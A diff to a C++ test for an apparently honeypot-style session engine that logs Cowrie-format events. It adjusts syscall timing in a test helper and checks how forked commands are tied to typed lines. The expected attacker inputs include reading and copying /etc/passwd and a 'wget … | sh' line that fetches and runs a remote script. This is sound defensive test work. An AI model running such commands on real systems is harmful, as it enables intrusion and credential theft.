@@ -57,6 +57,7 @@ class Guest {
  public:
   explicit Guest(Tracker& t) : t_(&t) {}
   std::uint64_t now = 1'000'000'000;
+  std::uint64_t next_entry_ns = 0;   // != 0: the next call entered then (it completes later than others)
 
   void call(std::uint32_t pid, std::string_view name, std::vector<std::uint64_t> args, std::optional<std::int64_t> ret,
             std::vector<events::Capture> entry = {}, std::vector<events::Capture> exit = {}, std::uint32_t tid = 0) {
@@ -71,7 +72,8 @@ class Guest {
     e.call.ret = ret;
     e.call.entry_caps = std::move(entry);
     e.call.exit_caps = std::move(exit);
-    e.entry_ns = now;
+    e.entry_ns = std::exchange(next_entry_ns, 0);
+    if (e.entry_ns == 0) e.entry_ns = now;
     now += 1'000'000;
     e.exit_ns = now;
     t_->on_call(e);
@@ -850,6 +852,16 @@ TEST(SessionEngine, TabCompletionPipedDownloadAndKernelCopies) {
   g.close(304, 6);
   g.exit(304, 0);
   g.read(kConn, kMaster, prompt);
+  // On one vCPU the shell reads the Enter and forks before the server's write of it returns: the
+  // fork is seen first and still belongs to the line that Enter completes (logger keeps its exit 0).
+  const std::uint64_t enter_at = g.now;
+  g.now += 1'000'000;
+  g.fork(kShell, 330);
+  g.exec(330, "/bin/false", {"false"});
+  g.exit(330, 1);
+  g.next_entry_ns = enter_at;
+  g.write(kConn, kMaster, "false\r");
+  g.read(kConn, kMaster, "false\r\n" + prompt);
   g.type(kConn, kMaster, "exit\r", "exit\r\n");
   g.exit(kShell, 0);
   g.exit(kConn, 0);
@@ -859,10 +871,12 @@ TEST(SessionEngine, TabCompletionPipedDownloadAndKernelCopies) {
   std::vector<std::string> inputs;
   for (const auto& e : by_id(ev, "cowrie.command.input")) inputs.push_back(e["input"]);
   EXPECT_EQ(inputs, (std::vector<std::string>{"cat /etc/passwd", "wget -qO- http://10.0.2.100/s.sh | sh", "-s",
-                                              "--version", "cp /etc/passwd /tmp/pw", "logger", "exit"}));
+                                              "--version", "cp /etc/passwd /tmp/pw", "logger", "false", "exit"}));
   const std::string tr = slurp(sdir / "transcript.txt");
   // cat was forked before its line was known: its status is still the command's
   EXPECT_NE(tr.find("$ cat /etc/passwd\nroot:x:0:0:root:/root:/bin/bash\n[exit 0]\n"), std::string::npos) << tr;
+  EXPECT_NE(tr.find("6be03)\n[exit 0]\n"), std::string::npos) << tr;   // logger's, not false's fork
+  EXPECT_NE(tr.find(" $ false\n[exit 1]\n"), std::string::npos) << tr;
 
   const auto dl = by_id(ev, "cowrie.session.file_download");
   ASSERT_EQ(dl.size(), 2u);
